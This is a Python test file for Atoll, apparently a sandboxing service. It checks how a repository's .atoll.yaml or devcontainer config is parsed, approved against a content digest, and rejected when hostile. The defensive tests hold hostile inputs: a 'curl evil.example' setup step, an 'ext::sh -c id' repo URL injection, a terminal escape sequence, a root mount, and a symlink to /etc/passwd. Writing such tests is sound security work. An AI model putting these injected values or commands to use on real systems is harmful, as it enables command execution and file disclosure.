"""A repository's own file, from a checkout to a decision, over the real server and real git."""

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from atoll.client.bodies import RepoBody
from atoll.client.projects import Project, Projects
from atoll.domain.errors import Conflict, Invalid, NotFound
from atoll.surfaces.cli.transfer.local_repo import upload
from tests.peers.git_tree import Tree, new_tree
from tests.surfaces.repository_world import RepositoryWorld, repository_world

FILE = "setup: [make]\nnetwork: [npm]\nports: [3000]\nenv: {A: '1'}\nagent: codex\n"


@pytest.fixture
async def atoll() -> AsyncIterator[RepositoryWorld]:
    async with repository_world() as world:
        yield world


async def sent(atoll: RepositoryWorld, tree: Tree) -> RepoBody:
    stored = await asyncio.to_thread(upload, atoll.api, tree.path, also=None)
    return {"key": stored.key, "from_branch": "main"}


async def read(atoll: RepositoryWorld, repository: RepoBody) -> Project:
    return await asyncio.to_thread(Projects(atoll.api.transport).read, repository)


async def decide(
    atoll: RepositoryWorld, repository: RepoBody, shown: str, decision: Any = "approved"
) -> Project:
    return await asyncio.to_thread(
        lambda: Projects(atoll.api.transport).decide(repository, shown=shown, decision=decision)
    )


async def test_decision_is_bound_to_what_was_shown_and_asked_again_after_a_change(
    atoll: RepositoryWorld, tmp_path: Path
) -> None:
    tree = new_tree(tmp_path / "work")
    tree.commit(".atoll.yaml", FILE)
    repository = await sent(atoll, tree)
    first = await read(atoll, repository)
    assert (first.file, first.agent, first.undecided) == (".atoll.yaml", "codex", True)
    assert [(one.kind, one.text) for one in first.proposals] == [
        ("setup", "make"), ("network", "npm"), ("port", "3000"), ("env", "A=1"),
    ]  # fmt: skip
    with pytest.raises(Conflict):
        await decide(atoll, repository, shown="0" * 64)
    approved = await decide(atoll, repository, first.digest)
    assert (approved.decision, approved.undecided) == ("approved", False)

    tree.commit(".atoll.yaml", FILE.replace("[make]", "[make, curl evil.example]"))
    await sent(atoll, tree)
    changed = await read(atoll, repository)
    assert changed.undecided and not changed.decision
    assert [one.text for one in changed.changes.added] == ["curl evil.example"]
    with pytest.raises(Conflict):
        await decide(atoll, repository, first.digest)

    # The older content is still remembered as approved, and a new agent widens nothing.
    tree.commit(".atoll.yaml", FILE.replace("codex", "aider"))
    await sent(atoll, tree)
    assert (await read(atoll, repository)).decision == "approved"
    declined = await decide(atoll, repository, first.digest, decision="declined")
    assert declined.decision == "declined"
    projects = Projects(atoll.api.transport)
    assert len((await asyncio.to_thread(projects.list)).projects) == 1
    await asyncio.to_thread(projects.forget, first.repository)
    assert (await read(atoll, repository)).undecided


async def test_file_is_the_one_of_the_commit_that_a_sandbox_would_start_from(
    atoll: RepositoryWorld, tmp_path: Path
) -> None:
    tree = new_tree(tmp_path / "work")
    tree.git("checkout", "-qb", "other")
    tree.commit(".atoll.yaml", FILE)
    repository = await sent(atoll, tree)
    tree.git("checkout", "-q", "main")
    await sent(atoll, tree)
    assert (await read(atoll, repository)).file == ""
    assert (await read(atoll, {**repository, "from_branch": "other"})).file == ".atoll.yaml"
    assert (await read(atoll, {"key": repository["key"], "branch": "other"})).file
    with pytest.raises(Invalid):
        await read(atoll, {**repository, "from_branch": "absent"})
    with pytest.raises(NotFound):
        await read(atoll, {"key": "0" * 16})
    for repo_url in ("ext::sh -c id", "http://user:pw@example.org/x"):
        with pytest.raises(Invalid):
            await read(atoll, {"repo_url": repo_url})


async def test_hostile_file_is_a_problem_in_printable_words_and_proposes_nothing(
    atoll: RepositoryWorld, tmp_path: Path
) -> None:
    tree = new_tree(tmp_path / "work")
    for content in ('"\\e]0;x\\a": 1\n', "mounts: [/]\n", "network: full\n", "a: &a [*a]\n"):
        tree.commit(".atoll.yaml", content)
        found = await read(atoll, await sent(atoll, tree))
        assert found.problem.isprintable() and found.problem and not found.proposals
        with pytest.raises(Conflict):
            await decide(atoll, {"key": found.repository}, found.digest)
    (tree.path / ".atoll.yaml").unlink()
    (tree.path / ".atoll.yaml").symlink_to("/etc/passwd")
    tree.git("add", "-A")
    tree.git("commit", "-qm", "link")
    assert "links are not followed" in (await read(atoll, await sent(atoll, tree))).problem


async def test_devcontainer_is_read_where_there_is_no_file_of_atoll(
    atoll: RepositoryWorld, tmp_path: Path
) -> None:
    tree = new_tree(tmp_path / "work")
    tree.commit(".devcontainer/devcontainer.json", '{"postCreateCommand": "make", "x": 1}')
    found = await read(atoll, await sent(atoll, tree))
    assert found.file == ".devcontainer/devcontainer.json"
    assert [one.text for one in found.proposals] == ["make"]
    assert found.ignored == ["x: Atoll does not use it"]


async def test_schema_is_served(atoll: RepositoryWorld) -> None:
    headers = {"Authorization": f"Bearer {atoll.token}"}
    async with httpx.AsyncClient(base_url=atoll.url, headers=headers) as client:
        answer = await client.get("/v1/projects/schema.json")
    assert answer.headers["content-type"] == "application/schema+json"
    assert answer.json()["additionalProperties"] is False
